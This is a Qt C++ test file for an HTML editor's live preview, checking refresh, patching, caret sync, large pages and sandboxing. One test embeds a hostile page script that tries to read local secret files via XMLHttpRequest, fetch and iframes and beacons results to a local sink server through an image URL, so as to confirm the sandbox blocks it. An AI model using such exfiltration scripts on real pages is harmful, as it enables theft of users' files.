// The live preview with its real renderer: typing shows up, relative pictures come from the
// page's folder, links go to the external browser, a 10 MiB page shows, closing lets go.
#include "support/EachCaseApart.h"
#include "support/FakeDesktop.h"
#include "support/TestKit.h"

#include "app/frmMain.h"
#include "document/RichEdit.h"
#include "document/frmDocument.h"
#include "review/PreviewDock.h"
#include "review/ReviewCommands.h"

#include <QAbstractButton>
#include <QAction>
#include <QApplication>
#include <QDir>
#include <QImage>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QFile>
#include <QTcpServer>
#include <QTest>

using testkit::App;
using review::PreviewDock;

namespace {

PreviewDock* dock() { return review::previewDock(); }

// A script's result in the page shown, waited for.
QVariant evaluate(const QString& script)
{
    QVariant result;
    bool done = false;
    dock()->renderer()->runScript(script, [&](const QVariant& v) {
        result = v;
        done = true;
    });
    QElapsedTimer clock;
    clock.start();
    while (!done && clock.elapsed() < 10000)
        QTest::qWait(10);
    return done ? result : QVariant(QStringLiteral("<no answer>"));
}

// Waits until the page shown answers `script` with `expected`.
bool showsWithin(const QString& script, const QVariant& expected, int ms)
{
    QElapsedTimer clock;
    clock.start();
    while (clock.elapsed() < ms) {
        if (evaluate(script) == expected)
            return true;
        QTest::qWait(50);
    }
    return false;
}

void openPreview(App& app)
{
    app.main().action("mnuViewLivePreview")->trigger();
    QVERIFY(dock()->isVisible());
    QVERIFY2(dock()->renderer(), qPrintable(dock()->loadError()));
    QVERIFY(app.main().action("mnuViewLivePreview")->isChecked());
}

} // namespace

class LivePreviewTest : public QObject {
    Q_OBJECT
private slots:
    void initTestCase() { testkit::isolate(); }

    void typingShowsUpAndClosingLetsGo()
    {
        App app;
        QVERIFY(!dock()->renderer()); // nothing loaded before the preview is first shown
        app.newDocument();
        openPreview(app);
        app.edit()->setWholeText("<HTML><BODY>\r\n</BODY></HTML>");
        app.edit()->setSelStart(12);
        QSignalSpy refreshed(dock(), &PreviewDock::refreshed);
        QElapsedTimer clock;
        clock.start();
        app.edit()->setFocus();
        app.type("<H1>Live</H1>");
        QVERIFY(showsWithin("document.querySelector('h1') ? document.querySelector('h1').textContent : ''",
                            QStringLiteral("Live"), 2000));
        qInfo("shown %lld ms after the last key", static_cast<long long>(clock.elapsed()));
        // Typing a burst refreshes once it settles, not per key.
        QVERIFY(refreshed.count() <= 3);

        app.main().action("mnuViewLivePreview")->trigger();
        QVERIFY(dock()->isHidden());
        QVERIFY(!dock()->renderer());
        QVERIFY(!app.main().action("mnuViewLivePreview")->isChecked());
    }

    // Typing into a paragraph changes that paragraph in the page shown: the page's scripts keep
    // running (their counter stays as it was); a change in the head loads the page again.
    void editsPatchInPlaceAndTheHeadReloads()
    {
        App app;
        app.newDocument();
        QString page = QStringLiteral("<HTML><HEAD><TITLE>t</TITLE></HEAD><BODY>\r\n"
                                      "<SCRIPT>window.__n = 1;</SCRIPT>\r\n");
        while (page.size() < 200 * 1024)
            page += QStringLiteral("<P>Some text of a paragraph, <B>bold</B> here.</P>\r\n");
        page += QStringLiteral("<P ID=t>Hello</P>\r\n<TABLE><TR><TD>cell</TABLE>\r\n</BODY></HTML>\r\n");
        app.edit()->setWholeText(page);
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('t') ? 1 : 0", 1, 20000));
        QCOMPARE(evaluate("window.__n = 42"), QVariant(42));
        QSignalSpy reloads(dock(), &PreviewDock::reloading);
        QSignalSpy patches(dock(), &PreviewDock::patched);
        app.edit()->setFocus();
        app.edit()->setSelStart(int(page.indexOf("Hello</P>")) + 5);
        app.type(" world");
        QVERIFY(showsWithin("document.getElementById('t').textContent", QStringLiteral("Hello world"), 5000));
        // A cell, whose row and table body the parser made up, is found all the same.
        app.edit()->setSelStart(app.edit()->text().indexOf("cell") + 4);
        app.type("s");
        QVERIFY(showsWithin("document.querySelector('td').textContent", QStringLiteral("cells"), 5000));
        QCOMPARE(evaluate("window.__n"), QVariant(42));
        QVERIFY2(reloads.isEmpty(), qPrintable(reloads.isEmpty() ? QString() : reloads.first().first().toString()));
        QVERIFY(patches.count() >= 2);

        app.edit()->setSelStart(int(page.indexOf("</TITLE>")));
        app.type("x");
        QVERIFY(showsWithin("window.__n", 1, 10000));
        QCOMPARE(evaluate("document.title"), QVariant(QStringLiteral("tx")));
        QVERIFY(!reloads.isEmpty());

        // Once the page's own scripts have changed the page, the source no longer says what is
        // shown: the next change loads it again.
        QVERIFY(showsWithin("document.readyState", QStringLiteral("complete"), 10000));
        evaluate("document.body.appendChild(document.createElement('span')); window.__n = 42");
        reloads.clear();
        app.edit()->setSelStart(app.edit()->text().indexOf("Hello") + 5);
        app.type("!");
        QVERIFY(showsWithin("window.__n", 1, 10000));
        QVERIFY(!reloads.isEmpty() && reloads.last().first().toString().contains("scripts"));
        app.main().action("mnuViewLivePreview")->trigger();
    }

    // The element under the caret is outlined (in a tree the page's scripts cannot read);
    // Ctrl+click on a heading puts the caret at its start tag, also once the page was loaded
    // whole again.
    void theCaretAndThePreviewFollowEachOther()
    {
        App app;
        app.newDocument();
        const QString page = QStringLiteral("<HTML><BODY>\r\n<TABLE><TR><TD>cell</TABLE>\r\n"
                                            "<P>one</P>\r\n<H2 ID=h>Heading</H2>\r\n<P ID=p>two</P>\r\n</BODY></HTML>");
        app.edit()->setWholeText(page);
        app.edit()->setSelStart(0);
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('p') ? 1 : 0", 1, 10000));
        QSignalSpy marked(dock(), &PreviewDock::caretShown);
        app.edit()->setSelStart(int(page.indexOf("two")) + 1);
        QVERIFY(marked.wait(5000));
        QCOMPARE(evaluate("const m = document.querySelector('halvane-caret'); "
                          "m && m.shadowRoot === null && m.childNodes.length === 0 && m.getAttributeNames().length === 0"),
                 QVariant(true));
        QCOMPARE(evaluate("document.querySelectorAll('[data-pos],[data-source]').length"), QVariant(0));

        // Loaded whole again (a title put into the head), the page still answers clicks.
        QSignalSpy reloads(dock(), &PreviewDock::reloading);
        app.edit()->setSelStart(int(page.indexOf("<BODY>")));
        app.edit()->setSelText("<HEAD><TITLE>t</TITLE></HEAD>");
        QVERIFY(showsWithin("document.title", QStringLiteral("t"), 10000));
        QVERIFY(!reloads.isEmpty());
        QVERIFY(showsWithin("document.getElementById('h') ? 1 : 0", 1, 10000));

        const QVariantList r = evaluate("const b = document.getElementById('h').getBoundingClientRect(); "
                                        "[Math.round(b.left + 5), Math.round(b.top + b.height / 2)]").toList();
        QCOMPARE(r.size(), 2);
        QWidget* view = dock()->renderer()->widget();
        QWidget* target = view->focusProxy() ? view->focusProxy() : view;
        QTest::mouseClick(target, Qt::LeftButton, Qt::ControlModifier, QPoint(r[0].toInt(), r[1].toInt()));
        QTRY_COMPARE_WITH_TIMEOUT(app.edit()->selStart(), int(app.edit()->text().indexOf("<H2")), 5000);

        QAction* follows = app.main().action("mnuViewPreviewFollowsCaret");
        QVERIFY(follows->isCheckable() && follows->isChecked());
        follows->trigger();
        QVERIFY(!follows->isChecked() && !dock()->followsCaret());
        follows->trigger();
        QVERIFY(follows->isChecked() && dock()->followsCaret());
        app.main().action("mnuViewLivePreview")->trigger();
    }

    // Past the live limit the page is shown again only on demand, and the title says so.
    void aBigPageRefreshesOnDemand()
    {
        App app;
        app.newDocument();
        QString page = QStringLiteral("<HTML><BODY><P ID=t>Start</P>\r\n<!--\r\n");
        while (page.size() < PreviewDock::onDemandChars + 1000)
            page += QStringLiteral("Some text of a long page, <B>bold</B> here and there.\r\n");
        page += QStringLiteral("-->\r\n</BODY></HTML>\r\n");
        app.edit()->setWholeText(page);
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('t') ? 1 : 0", 1, 30000));
        QVERIFY(dock()->windowTitle().contains("Refresh"));
        app.edit()->setFocus();
        app.edit()->setSelStart(int(page.indexOf("Start")) + 5);
        app.type("ed");
        QTest::qWait(PreviewDock::settleMs * 4); // long enough for a live preview to have shown it
        QCOMPARE(evaluate("document.getElementById('t').textContent"), QVariant(QStringLiteral("Start")));
        auto* refresh = dock()->findChild<QAbstractButton*>("cmdPreviewRefresh");
        QVERIFY(refresh);
        refresh->click();
        QVERIFY(showsWithin("document.getElementById('t').textContent", QStringLiteral("Started"), 30000));
        // F5 in the preview refreshes it; it does not reach the menu's command on that key.
        app.edit()->setSelStart(app.edit()->text().indexOf("Started") + 7);
        app.type("!");
        const QString typed = app.edit()->text();
        QWidget* view = dock()->renderer()->widget();
        QTest::keyClick(view->focusProxy() ? view->focusProxy() : view, Qt::Key_F5);
        QVERIFY(showsWithin("document.getElementById('t').textContent", QStringLiteral("Started!"), 30000));
        QCOMPARE(app.edit()->text(), typed);
        // With the keyboard in the preview, the page shown again keeps it.
        app.edit()->setSelStart(app.edit()->text().indexOf("Started!") + 8);
        app.edit()->setSelText("?");
        const auto inView = [view] {
            QWidget* focus = QApplication::focusWidget();
            return focus && (focus == view || view->isAncestorOf(focus));
        };
        view->setFocus();
        QTRY_VERIFY_WITH_TIMEOUT(inView(), 5000);
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_F5);
        QVERIFY(showsWithin("document.getElementById('t').textContent", QStringLiteral("Started!?"), 30000));
        QTRY_VERIFY_WITH_TIMEOUT(inView(), 5000);
        app.main().action("mnuViewLivePreview")->trigger();
    }

    // The page of a file: its pictures come from its folder; a file beside the folder cannot
    // be read; a link opens in the external browser and the preview stays on the page.
    void pagesOfAFileSeeTheirFolderOnly()
    {
        testkit::FakeDesktop desktop;
        desktop.registerBrowser(desktop.fakeBrowser() + " %u");
        QDir().mkpath(desktop.filePath("site/img"));
        QImage picture(30, 20, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QVERIFY(picture.save(desktop.filePath("site/img/dot.png")));
        QVERIFY(picture.save(desktop.filePath("outside.png")));

        App app;
        app.newDocument();
        app.doc()->setWindowTitle(desktop.filePath("site/index.htm"));
        app.edit()->setWholeText("<HTML><BODY><IMG ID=in SRC=\"img/dot.png\">"
                                 "<IMG ID=out SRC=\"../outside.png\">"
                                 "<A ID=go HREF=\"http://example.com/x\">go</A></BODY></HTML>");
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('in').complete && "
                            "document.getElementById('in').naturalWidth",
                            30, 5000));
        // The picture outside the page's folder has settled (refused), not merely not loaded yet.
        QVERIFY(showsWithin("document.getElementById('out').complete", true, 5000));
        QCOMPARE(evaluate("document.getElementById('out').naturalWidth"), QVariant(0));

        evaluate("document.getElementById('go').click(); 1");
        QTRY_COMPARE_WITH_TIMEOUT(desktop.launched(), QStringList{"http://example.com/x"}, 5000);
        QCOMPARE(evaluate("document.getElementById('go') !== null"), QVariant(true));
        QCOMPARE(evaluate("window.open('about:blank') === null"), QVariant(true));
        app.main().action("mnuViewLivePreview")->trigger();
    }

    // A page's scripts may be anyone's: they read no file (XMLHttpRequest, fetch, a frame of a
    // file that is no page, hidden files), reach no server, while the page's own pictures,
    // style sheets and scripts still load. Remote content comes only once the user allows it.
    void scriptsReadNoFilesAndReachNoServer()
    {
        QTcpServer server;
        QVERIFY(server.listen(QHostAddress::LocalHost));
        QSignalSpy arrived(&server, &QTcpServer::newConnection);
        const QString sink = QStringLiteral("http://127.0.0.1:%1/").arg(server.serverPort());
        QTemporaryDir home;
        const QByteArray oldHome = qgetenv("HOME");
        qputenv("HOME", home.path().toLocal8Bit());
        QDir(home.path()).mkpath("site/.hidden");
        auto write = [&](const QString& name, const QByteArray& bytes) {
            QFile f(home.filePath(name));
            QVERIFY(f.open(QIODevice::WriteOnly));
            f.write(bytes);
        };
        write("site/secret.txt", "SECRET-TEXT");
        write("site/.hidden/key.js", "window.leaked = 'SECRET-HIDDEN';");
        write("site/style.css", "#styled { color: rgb(0, 128, 0); }");
        write("site/code.js", "window.codeRan = true;");
        write("site/frame.htm", "<P>frame page</P>");
        QImage picture(30, 20, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QVERIFY(picture.save(home.filePath("site/dot.png")));
        QVERIFY(picture.save(home.filePath("dot.png")));

        App app;
        app.newDocument();
        app.doc()->setWindowTitle(home.filePath("site/index.htm"));
        app.edit()->setWholeText(
            QStringLiteral(
                "<HTML><HEAD><LINK REL=stylesheet HREF=\"style.css\"><SCRIPT SRC=\"code.js\"></SCRIPT>"
                "<SCRIPT SRC=\".hidden/key.js\"></SCRIPT></HEAD><BODY><P ID=styled>text</P>"
                "<IMG ID=in SRC=\"dot.png\"><IMG ID=remote SRC=\"%1remote.png\">"
                "<IFRAME ID=page SRC=\"frame.htm\"></IFRAME><IFRAME ID=file SRC=\"secret.txt\"></IFRAME>"
                "<SCRIPT>window.got = [];"
                "function note(x) { got.push(String(x)); new Image().src = '%1?d=' + encodeURIComponent(x); }"
                "try { var x = new XMLHttpRequest(); x.open('GET', 'secret.txt', false); x.send();"
                " note(x.responseText); } catch (e) { note('xhr refused'); }"
                "fetch('secret.txt').then(r => r.text()).then(note, () => note('fetch refused'));"
                "</SCRIPT></BODY></HTML>")
                .arg(sink));
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('in').complete && document.getElementById('in').naturalWidth",
                            30, 10000));
        QCOMPARE(evaluate("window.codeRan === true"), QVariant(true));
        QCOMPARE(evaluate("getComputedStyle(document.getElementById('styled')).color"),
                 QVariant(QStringLiteral("rgb(0, 128, 0)")));
        QVERIFY(showsWithin("got.length", 2, 10000));
        const QString got = evaluate("JSON.stringify(got)").toString();
        QVERIFY2(!got.contains("SECRET"), qPrintable(got));
        QCOMPARE(evaluate("typeof window.leaked"), QVariant(QStringLiteral("undefined")));
        const QString frames = QStringLiteral(
            "[...document.querySelectorAll('iframe')].map(f => { try { return f.contentDocument ? "
            "f.contentDocument.documentElement.outerHTML : 'closed'; } catch (e) { return 'closed'; } }).join('|')");
        QVERIFY2(!evaluate(frames).toString().contains("SECRET"), qPrintable(evaluate(frames).toString()));
        QTest::qWait(1000); // the page's requests have had their time: none reached the server
        QCOMPARE(arrived.count(), 0);

        // Allowed by the user: the remote picture is asked for.
        QAction* remote = app.main().action("mnuViewPreviewRemote");
        QVERIFY(!remote->isChecked());
        remote->trigger();
        QVERIFY(remote->isChecked());
        QTRY_VERIFY_WITH_TIMEOUT(arrived.count() > 0, 10000);
        remote->trigger();
        QVERIFY(!remote->isChecked());

        // A page without a file of its own reads nothing, not even beside it in the home folder.
        app.newDocument();
        app.edit()->setWholeText("<HTML><BODY><IMG ID=in SRC=\"dot.png\"><P ID=done>x</P></BODY></HTML>");
        QVERIFY(showsWithin("document.getElementById('done') !== null && document.getElementById('in').complete",
                            true, 10000));
        QCOMPARE(evaluate("document.getElementById('in').naturalWidth"), QVariant(0));
        app.main().action("mnuViewLivePreview")->trigger();
        qputenv("HOME", oldHome);
    }

    // Far over what the engine takes as a page given by value: the whole page arrives. (Most
    // of it is a comment, so that the test measures the way in, not the engine's layout.)
    void aTenMiBPageShows()
    {
        App app;
        app.newDocument();
        QString page = QStringLiteral("<HTML><BODY><P>Start</P>\r\n<!--\r\n");
        const QString line = QStringLiteral("Some text of a long page, <B>bold</B> here and there.\r\n");
        while (page.size() < 10 * 1024 * 1024)
            page += line;
        page += QStringLiteral("-->\r\n<P ID=last>The end</P></BODY></HTML>\r\n");
        app.edit()->setWholeText(page);
        QElapsedTimer clock;
        clock.start();
        openPreview(app);
        QVERIFY(showsWithin("document.getElementById('last') ? document.getElementById('last').textContent : ''",
                            QStringLiteral("The end"), 60000));
        qInfo("10 MiB page shown in %lld ms", static_cast<long long>(clock.elapsed()));
        QVERIFY(evaluate("document.documentElement.outerHTML.length").toDouble() > 10e6);
        app.main().action("mnuViewLivePreview")->trigger();
    }
};

int main(int argc, char** argv)
{
    // One case sets up a desktop of its own (FakeDesktop): each case in a process of its own.
    if (argc == 1)
        return testkit::runEachCaseApart(argc, argv);
    // As the program starts: without a shared drawing context.
    QApplication app(argc, argv);
    LivePreviewTest test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}
#include "tst_livepreview.moc"
